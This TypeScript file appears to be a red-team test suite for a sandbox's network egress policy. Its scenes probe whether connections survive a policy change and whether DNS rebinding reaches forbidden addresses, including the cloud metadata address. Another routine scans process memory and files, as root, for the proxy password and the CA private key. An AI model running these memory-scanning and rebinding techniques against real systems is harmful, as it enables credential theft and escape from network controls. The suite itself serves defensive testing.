import { setTimeout as sleep } from 'node:timers/promises';
import { publicAddress } from '../../addresses.ts';
import { Breach } from '../../attempt.ts';
import type { Scene } from '../../attempt.ts';
import { lab, nameOf } from '../../internet.ts';
import type { World } from '../../world.ts';
import { ask } from '../raw.ts';
import { runPython } from './programs.ts';

const openTo = (name: string): object => ({ allowOut: [nameOf(name)], denyOut: ['0.0.0.0/0'] });

/**
 * Requests on a connection that a policy allowed, before and after it is replaced by one that forbids it. `seconds`: how
 * long the second one waits for an answer.
 */
const kept = (host: string, address: string, word: string, seconds: number): string => `
opened = socket.create_connection(('${address}', 80), 15)
def request(path):
  opened.sendall(b'GET /%s HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n' % path.encode())
  return opened.recv(4096).startswith(b'HTTP/1.1 200')
print('first', request('first-${word}'), flush=True)
open('/tmp/kept-ready', 'w').close()
# A file that is written from outside belongs to root for a moment, and /tmp is sticky.
while not (os.path.exists('/tmp/kept-changed') and os.stat('/tmp/kept-changed').st_uid == os.getuid()): time.sleep(0.01)
opened.settimeout(${seconds})
try: print('second', request('second-${word}'), flush=True)
except OSError as error: print('second', type(error).__name__, flush=True)
os.unlink('/tmp/kept-ready')
os.unlink('/tmp/kept-changed')
`;

async function keepConnection(world: World): Promise<string> {
  const { target, outside, host } = world;
  const put = async (sandboxId: string, policy: object): Promise<void> => {
    const headers = { 'x-api-key': target.apiKey, 'content-type': 'application/json' };
    const body = JSON.stringify(policy);
    const { status } = await ask(target.port, `/sandboxes/${sandboxId}/network`, { method: 'PUT', headers, body });
    if (status >= 300) throw new Error(`the policy could not be replaced: ${status}`);
  };
  const cases = [
    ['by names', openTo('allowed'), openTo('ruled'), 'second False|second (ConnectionResetError|TimeoutError)'],
    ['by addresses', { denyOut: [`${lab.forbidden}/32`] }, { denyOut: [`${lab.allowed}/32`] }, ''],
    ['without a policy, then by names', {}, openTo('ruled'), ''],
    ['by names, with nothing changed (control)', openTo('allowed'), openTo('allowed'), 'second True'],
  ] as const;
  return await world.withPolicy({}, async (sandbox) => {
    const evidence: string[] = [];
    for (const [form, before, after] of cases) {
      await put(sandbox.sandboxId, before);
      await outside.forget();
      const word = host.word.slice(-8);
      const seconds = form.includes('control') ? 15 : 2;
      const running = runPython(sandbox, kept(nameOf('allowed'), lab.allowed, word, seconds));
      for (let n = 0; n < 1000 && !(await sandbox.files.exists('/tmp/kept-ready')); n += 1) await sleep(20);
      await put(sandbox.sandboxId, after);
      await sandbox.files.write('/tmp/kept-changed', '');
      const said = (await running).trim().split('\n').join(', ');
      const heard = await outside.heard();
      if (!heard.includes(`/first-${word}`)) throw new Error(`${form}: the first request did not arrive: ${said}`);
      const arrived = heard.includes(`/second-${word}`);
      if (form.includes('control') ? !arrived : false) throw new Error(`${form}: the connection ended: ${said}`);
      if (!form.includes('control') && arrived) throw new Breach(`${form}: a request arrived after the change`);
      evidence.push(`${form}: ${said}`);
    }
    return evidence.join('; ');
  });
}

/** A name that leads to a forbidden address with every second answer, or among others. */
async function rebind(world: World): Promise<string> {
  const names = ['rebinding', 'both'].map(nameOf);
  const policy = { allowOut: names, denyOut: ['0.0.0.0/0'] };
  return await world.withPolicy(policy, async (sandbox) => {
    await world.outside.forget();
    const said = await runPython(
      sandbox,
      `reached = {}
for turn in range(12):
  for name in ${JSON.stringify(names)}:
    for address in ('${lab.allowed}', '169.254.169.254', '${lab.private}'):
      try: at = json.loads(https(address, name, request(name, '/rebind'), seconds=1).split('\\r\\n\\r\\n', 1)[1])['localAddress']
      except (OSError, ValueError) as error: at = type(error).__name__
      reached[at] = reached.get(at, 0) + 1
    try: lookup(name)
    except OSError: pass
print(json.dumps(reached))`,
    );
    const reached = JSON.parse(said) as Record<string, number>;
    const heard = await world.outside.heard();
    const at = heard.filter((text) => text.startsWith('https')).map((text) => text.split(' at ')[1]);
    const wrong = at.filter((address) => address !== lab.allowed);
    if (wrong.length > 0) throw new Breach(`a forbidden address was reached: ${wrong.join()}`);
    if ((reached[lab.allowed] ?? 0) === 0) throw new Error(`the allowed address was not reached either: ${said}`);
    if (!heard.includes(`A ${names[0] ?? ''}`)) throw new Error('the name was not looked up');
    return `by address: ${said.trim()}; only the allowed one heard anything`;
  });
}

/** Reads the credentials of the proxy through which it connects. */
async function stealProxy(world: World): Promise<string> {
  const password = `proxy-${world.host.word}`;
  const policy = { egressProxy: { address: `${lab.proxy}:1080`, username: 'redteam', password } };
  return await world.withPolicy(policy, async (sandbox) => {
    await world.outside.forget();
    const program = `
try: print(plain('${publicAddress}', 80, b'GET /by-proxy HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n')[:15])
except OSError as error: print(error)
for port in (1080, 80):
  try: print(exchange('${lab.proxy}', port, b'\\x05\\x01\\x00', seconds=1))
  except OSError as error: print(error)
print(find_in_memory(b'proxy-redteam-' + b'${world.host.word.slice(-24)}'[:8]))`;
    const said = await runPython(sandbox, findInMemory + program, { user: 'root' });
    const heard = await world.outside.heard();
    if (!heard.includes(`socks redteam ${password}`)) throw new Error(`the proxy was not used: ${said}`);
    if (!heard.includes('/by-proxy')) throw new Error(`nothing arrived through the proxy: ${said}`);
    if (said.includes('found')) throw new Breach(`the password is in the sandbox: ${said}`);
    const { target } = world;
    const shown = await ask(target.port, `/sandboxes/${sandbox.sandboxId}`, {
      headers: { 'x-api-key': target.apiKey },
    });
    if (shown.body.includes(password)) throw new Breach('the API shows the password');
    return 'the proxy got the password, and no file or process of the sandbox has it';
  });
}

/** Looks at all files of small size and at the memory of all processes but its own. */
export const findInMemory = `
def find_in_memory(word):
  places = []
  for pid in [one for one in os.listdir('/proc') if one.isdigit() and int(one) != os.getpid()]:
    try: spaces = open('/proc/%s/maps' % pid).read().splitlines()
    except OSError: continue
    try:
      memory = open('/proc/%s/mem' % pid, 'rb', 0)
      for space in spaces:
        area, rights = space.split()[:2]
        if 'r' not in rights or 'w' not in rights: continue
        start, end = [int(one, 16) for one in area.split('-')]
        if end - start > 64_000_000: continue
        try: memory.seek(start); text = memory.read(end - start)
        except (OSError, ValueError, OverflowError): continue
        if word in text: places.append('memory of ' + open('/proc/%s/comm' % pid).read().strip()); break
    except OSError: pass
  for top in ('/etc', '/run', '/tmp', '/home', '/root', '/var', '/usr/local', '/dev/shm'):
    for folder, _, names in os.walk(top):
      for name in names:
        path = os.path.join(folder, name)
        try:
          if os.path.isfile(path) and os.path.getsize(path) < 1_000_000 and 'redteam-' not in path and word in open(path, 'rb').read(): places.append(path)
        except OSError: pass
  return 'found in %s' % places if places else 'nowhere'
`;

/** Looks for the key that signs the certificates of opened connections. */
async function stealAuthority(world: World): Promise<string> {
  const rules = { [nameOf('plain')]: [{ transform: { headers: { 'x-rule': '1' } } }] };
  return await world.withPolicy({ rules }, async (sandbox) => {
    const program = `
print('works', passed(https('${lab.ruled}', '${nameOf('plain')}', request('${nameOf('plain')}')))[:12])
print('certificate', find_in_memory(b'BEGIN CERTIFICATE')[:100])
print('key', find_in_memory(b'PRIVATE KEY-----\\nM'))
import glob
for path in glob.glob('/etc/soulbox-egress/*'): print('file', path, oct(os.stat(path).st_mode), b'PRIVATE' in open(path, 'rb').read())`;
    const said = await runPython(sandbox, findInMemory + program, { user: 'root' });
    if (!/^works HTTP\/1\.1 200/m.test(said)) throw new Error(`the rule does not work: ${said}`);
    if (!/^certificate found/m.test(said)) throw new Error(`not even the certificate is found: ${said}`);
    const keys = /^key found in (.*)$/m.exec(said)?.[1];
    if (keys !== undefined && /soulbox|memory of envd/.test(keys)) throw new Breach(`a key is in ${keys}`);
    if (/^file .* True$/m.test(said)) throw new Breach(`a file has a key: ${said}`);
    return 'the certificate of the CA is inside, its key is nowhere';
  });
}

const scene = { kind: 'scene', wall: 'policy', by: ['user'] } as const;

export const changedPolicies: readonly Scene[] = [
  { ...scene, pace: 'quick', name: 'goes on with a connection that a new policy forbids', run: keepConnection },
  { ...scene, wall: 'addresses', pace: 'quick', name: 'uses names whose answers change (DNS rebinding)', run: rebind },
  {
    ...scene,
    wall: 'injected',
    by: ['root'],
    pace: 'long',
    name: 'reads the password of its egress proxy',
    run: stealProxy,
  },
  { ...scene, wall: 'injected', by: ['root'], pace: 'long', name: 'reads the key of its CA', run: stealAuthority },
];
